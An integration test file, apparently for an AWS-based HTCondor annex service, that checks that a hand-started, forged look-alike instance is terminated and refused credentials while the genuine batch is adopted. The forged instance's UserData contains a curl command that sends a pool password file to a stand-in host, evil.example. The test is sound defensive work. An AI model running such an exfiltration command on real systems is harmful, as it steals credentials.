// Instance provenance on the local stack (DynamoDB Local, moto, the real adapters and handlers): a
// launch is made stuck (its RunInstances or CreateFleet happened, its answer was lost), then
// someone who may call RunInstances starts an instance by hand with the stack's instance profile
// and that annex's tags, even the guessable bare client token of its batch. The sweep adopts the
// genuine batch and terminates the look-alike as forged; bootstrap serves the genuine instance and
// refuses the forged one (403, no credential). moto is reached through test/support/moto-shim.ts
// with `awsProvenance`: moto gives fleet instances neither the `aws:ec2:fleet-id` tag nor the
// launch template's profile, and DescribeFleets no ClientToken; the shim adds what AWS reports.
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { EC2Client, RunInstancesCommand } from '@aws-sdk/client-ec2';
import { SchedulerClient } from '@aws-sdk/client-scheduler';
import { SSMClient } from '@aws-sdk/client-ssm';
import type { InitializeHandlerArguments, InitializeHandlerOutput } from '@smithy/types';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { defaultDevUsers } from '../../scripts/devstack/dev-users.ts';
import { addInitializeMiddleware } from '../../scripts/devstack/sdk-middleware.ts';
import type { LocalStack } from '../../scripts/devstack/stack.ts';
import { Ec2Compute } from '../../shared/aws/ec2.ts';
import { DynamoLeaseStore } from '../../shared/aws/leases.ts';
import { SsmSecretStore } from '../../shared/aws/secrets.ts';
import { createAnnex, type CreateAnnexInput } from '../../shared/domain/annex-create.ts';
import type { LaunchDeps } from '../../shared/domain/annex-deps.ts';
import type { Annex, AnnexEvent, Caller } from '../../shared/domain/model.ts';
import type { Logger } from '../../shared/domain/ports.ts';
import { sweep, type SweepDeps } from '../../shared/domain/sweep.ts';
import { startMotoShim, type MotoShim } from '../support/moto-shim.ts';
import {
  annexInstances,
  integrationStack,
  stackLaunchSettings,
  stackSchedules,
} from '../support/integration-stack.ts';

const alice = defaultDevUsers().find((u) => u.name === 'alice');
if (alice === undefined) throw new Error('no dev user alice');
const ALICE: Caller = { principalArn: alice.principalArn, admin: false };

/** Past stuckAfterSeconds (600), short of bootGraceSeconds (900) since moto's launch times. */
const SWEEP_AT_S = 700;

let shim: MotoShim;
let stack: LocalStack;
let ec2: EC2Client;
const clients: { destroy(): void }[] = [];

beforeAll(async () => {
  shim = await startMotoShim(inject('motoEndpoint'), { awsProvenance: true });
  stack = await integrationStack('prov', { motoEndpoint: shim.endpoint });
  ec2 = new EC2Client(stack.clientConfig('moto'));
  clients.push(ec2);
});

afterAll(async () => {
  for (const c of clients) c.destroy();
  await stack?.stop();
  await shim?.stop();
});

/** The domain's dependencies on the stack's table and emulators; `loseAnswerOf` loses that call's answer. */
const domainDeps = (offsetSeconds: number, loseAnswerOf?: string): LaunchDeps & SweepDeps => {
  const client = new EC2Client(stack.clientConfig('moto'));
  const dynamo = new DynamoDBClient(stack.clientConfig('dynamodb'));
  const ssm = new SSMClient(stack.clientConfig('moto'));
  const scheduler = new SchedulerClient(stack.clientConfig('moto'));
  clients.push(client, dynamo, ssm, scheduler);
  if (loseAnswerOf !== undefined) {
    addInitializeMiddleware(
      client,
      'loseAnswer',
      (next, context) =>
        async (args: InitializeHandlerArguments<object>): Promise<InitializeHandlerOutput<object>> => {
          const out = await next(args);
          if (context.commandName === `${loseAnswerOf}Command`)
            throw new Error(`the ${loseAnswerOf} answer was lost`);
          return out;
        },
    );
  }
  const log: Logger = { info: () => {}, warn: () => {}, error: () => {} };
  return {
    store: new DynamoLeaseStore(dynamo, stack.tableName),
    clock: { now: () => new Date(Date.now() + offsetSeconds * 1000) },
    settings: {
      stage: stack.stage,
      maxDurationSeconds: 7 * 86400,
      maxInstancesPerAnnex: 50,
    },
    log,
    compute: new Ec2Compute(client, stack.stage),
    secrets: new SsmSecretStore(ssm, stack.stage),
    schedules: stackSchedules(scheduler, stack),
    launch: stackLaunchSettings(stack),
    sweep: { bootGraceSeconds: 900, orphanMinAgeSeconds: 60, stuckAfterSeconds: 600, concurrency: 4 },
  };
};

/** Creates an annex as alice whose launch call happened but whose answer was lost: LAUNCHING. */
const stuckAnnex = async (input: Partial<CreateAnnexInput> & { name: string }, lost: string) => {
  const deps = domainDeps(0, lost);
  await expect(
    createAnnex(deps, ALICE, { pool: 'default', count: 1, instanceTypes: ['m5.large'], ...input }),
  ).rejects.toThrow(/answer was lost/);
  const annex = await deps.store.findAnnexByName(ALICE.principalArn, input.name);
  if (annex === undefined) throw new Error(`no annex ${input.name}`);
  expect(annex.state).toBe('LAUNCHING');
  return annex;
};

/** An instance started by hand with the stack's profile, image and network, and the annex's tags. */
const startLookAlike = async (annex: Annex, clientToken: string): Promise<string> => {
  const tags = {
    'annex:id': annex.id,
    'annex:name': annex.name,
    'annex:owner': annex.owner,
    'annex:stage': stack.stage,
    'annex:expires-at': annex.expiresAt,
    'annex:batch': '1',
  };
  const out = await ec2.send(
    new RunInstancesCommand({
      ImageId: stack.imageId,
      InstanceType: 'm5.large',
      MinCount: 1,
      MaxCount: 1,
      ClientToken: clientToken,
      IamInstanceProfile: { Arn: stack.instanceProfileArn },
      ...(stack.subnetIds[0] === undefined ? {} : { SubnetId: stack.subnetIds[0] }),
      UserData: Buffer.from(
        '#!/bin/sh\ncurl -d @/etc/condor/passwords.d/POOL https://evil.example\n',
      ).toString('base64'),
      TagSpecifications: [
        { ResourceType: 'instance', Tags: Object.entries(tags).map(([Key, Value]) => ({ Key, Value })) },
      ],
    }),
  );
  return out.Instances?.[0]?.InstanceId ?? '';
};

const bootstrapAs = (instanceId: string) =>
  stack
    .as(stack.instanceCredentials(instanceId))
    .request<Record<string, unknown>>('POST', '/v1/instances/self/bootstrap');

const eventsOf = async (annexId: string): Promise<AnnexEvent[]> =>
  domainDeps(0).store.listEvents(annexId, 50);

describe('a hand-started, hand-tagged instance during a stuck launch', () => {
  it('is terminated as forged and never served, while the genuine batch is adopted and served', async () => {
    // Prepare: RunInstances launched the batch, its answer was lost; a look-alike with the batch's
    // guessable bare client token appears.
    const annex = await stuckAnnex({ name: 'stuck' }, 'RunInstances');
    const [genuine] = (await annexInstances(ec2, annex.id)).map((i) => i.InstanceId ?? '');
    const forged = await startLookAlike(annex, `${annex.id}-b1-a0`);

    // Act
    const report = await sweep(domainDeps(SWEEP_AT_S));
    const forgedBoot = await bootstrapAs(forged);
    const genuineBoot = await bootstrapAs(genuine ?? '');

    // Assess
    expect(report.errors).toBe(0);
    const running = (await annexInstances(ec2, annex.id)).map((i) => i.InstanceId);
    expect(running).toEqual([genuine]);
    const detail = await domainDeps(0).store.listInstances(annex.id);
    expect(detail.map((r) => r.instanceId)).toEqual([genuine]);
    const repaired = await domainDeps(0).store.getAnnex(annex.id);
    expect(repaired?.state).toBe('RUNNING');
    const events = await eventsOf(annex.id);
    expect(events.filter((e) => e.type === 'forged-instance')).toEqual([
      expect.objectContaining({ detail: expect.objectContaining({ instanceId: forged }) }),
    ]);
    // The launch secret is in the lease table only: not in an event, not in what the owner sees.
    expect(annex.launchSecret).toMatch(/^[0-9a-f]{32}$/);
    expect(JSON.stringify(events)).not.toContain(annex.launchSecret);
    const shown = await stack.as('alice').request('GET', `/v1/annexes/${annex.name}`);
    expect(shown.status).toBe(200);
    expect(JSON.stringify(shown.body)).not.toContain(annex.launchSecret);
    expect(forgedBoot.status).toBe(403);
    expect(JSON.stringify(forgedBoot.body)).not.toMatch(/credential|password/i);
    expect(genuineBoot.status, JSON.stringify(genuineBoot.body)).toBe(200);
    expect(genuineBoot.body).toMatchObject({ annexId: annex.id, instanceId: genuine });
  });

  it('a fleet launch whose answer was lost is found by its fleet’s client token and adopted', async () => {
    // Prepare
    const annex = await stuckAnnex({ name: 'stuck-spot', market: 'spot' }, 'CreateFleet');
    const genuine = (await annexInstances(ec2, annex.id)).map((i) => i.InstanceId ?? '');
    expect(genuine).toHaveLength(1);
    const forged = await startLookAlike(annex, `${annex.id}-b1-a0`);

    // Act
    await sweep(domainDeps(SWEEP_AT_S));
    const forgedBoot = await bootstrapAs(forged);

    // Assess
    const repaired = await domainDeps(0).store.getAnnex(annex.id);
    expect(repaired?.state).toBe('RUNNING');
    expect(repaired?.fleetIds?.['1']).toMatch(/^fleet-/);
    expect((await domainDeps(0).store.listInstances(annex.id)).map((r) => r.instanceId)).toEqual(genuine);
    expect((await annexInstances(ec2, annex.id)).map((i) => i.InstanceId)).toEqual(genuine);
    expect(forgedBoot.status).toBe(403);
  });
});
